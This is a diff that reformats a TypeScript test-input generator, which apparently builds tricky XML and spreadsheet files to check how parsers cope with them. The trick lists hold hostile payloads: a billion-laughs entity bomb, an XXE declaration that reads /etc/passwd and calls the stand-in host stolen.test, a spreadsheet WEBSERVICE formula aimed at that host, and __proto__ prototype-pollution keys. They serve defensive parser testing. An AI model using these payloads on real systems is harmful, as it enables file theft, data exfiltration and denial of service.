@@ -107,7 +107,9 @@ function asText(table: Table, sign: string, chance: Chance): string {
 }
 
 const escaped = (text: string): string =>
-  text.replace(/[&<"\p{Cc}\p{Cs}]/gu, (letter) => (letter === '&' ? '&amp;' : letter === '<' ? '&lt;' : '&quot;'))
+  text.replace(/[&<"\p{Cc}\p{Cs}]/gu, (letter) =>
+    letter === '&' ? '&amp;' : letter === '<' ? '&lt;' : '&quot;',
+  )
 
 function asXes(table: Table, chance: Chance, spoilt: string[]): string {
   const [head = [], ...rows] = table
@@ -137,18 +139,27 @@ const XML_TRICKS: readonly (readonly [what: string, change: (xml: string) => str
   [
     'entities that unfold',
     (xml) =>
-      xml.replace(
-        '<log',
-        `<!DOCTYPE log [<!ENTITY a "${'ha'.repeat(99)}"><!ENTITY b "${'&a;'.repeat(99)}"><!ENTITY c "${'&b;'.repeat(99)}">]><log`,
-      ).replace('value="', 'value="&c;'),
+      xml
+        .replace(
+          '<log',
+          `<!DOCTYPE log [<!ENTITY a "${'ha'.repeat(99)}"><!ENTITY b "${'&a;'.repeat(99)}"><!ENTITY c "${'&b;'.repeat(99)}">]><log`,
+        )
+        .replace('value="', 'value="&c;'),
   ],
   [
     'an entity from elsewhere',
-    (xml) => xml.replace('<log', '<!DOCTYPE log SYSTEM "file:///etc/passwd" [<!ENTITY x SYSTEM "//stolen.test/e">]><log'),
+    (xml) =>
+      xml.replace(
+        '<log',
+        '<!DOCTYPE log SYSTEM "file:///etc/passwd" [<!ENTITY x SYSTEM "//stolen.test/e">]><log',
+      ),
   ],
   ['an entity nobody declared', (xml) => xml.replace('value="', 'value="&bogus;')],
   ['the same attribute twice', (xml) => xml.replace('key="', 'key="b" key="')],
-  ['a key of an object', (xml) => xml.replaceAll('key="event"', 'key="__proto__"').replace('key="', 'key="__proto__')],
+  [
+    'a key of an object',
+    (xml) => xml.replaceAll('key="event"', 'key="__proto__"').replace('key="', 'key="__proto__'),
+  ],
 ]
 
 async function asBook(table: Table, chance: Chance, spoilt: string[]): Promise<Uint8Array> {
@@ -171,7 +182,11 @@ const BOOK_TRICKS: readonly ((xml: string) => string)[] = [
   (xml) => xml.replace(/r="C4"/, 'r="__proto__"'),
   (xml) => xml.replace(/<v>1<\/v>/g, '<v>99999999</v>'),
   (xml) => xml.replace(/<row r="5"/, '<row r="4294967299"'),
-  (xml) => xml.replace('<sheetData>', '<sheetData><row r="1"><c r="A1"><f>WEBSERVICE("http://stolen.test")</f><v>1e999</v></c></row>'),
+  (xml) =>
+    xml.replace(
+      '<sheetData>',
+      '<sheetData><row r="1"><c r="A1"><f>WEBSERVICE("http://stolen.test")</f><v>1e999</v></c></row>',
+    ),
 ]
 
 function spoiltBytes(bytes: Uint8Array, chance: Chance, spoilt: string[]): Uint8Array {
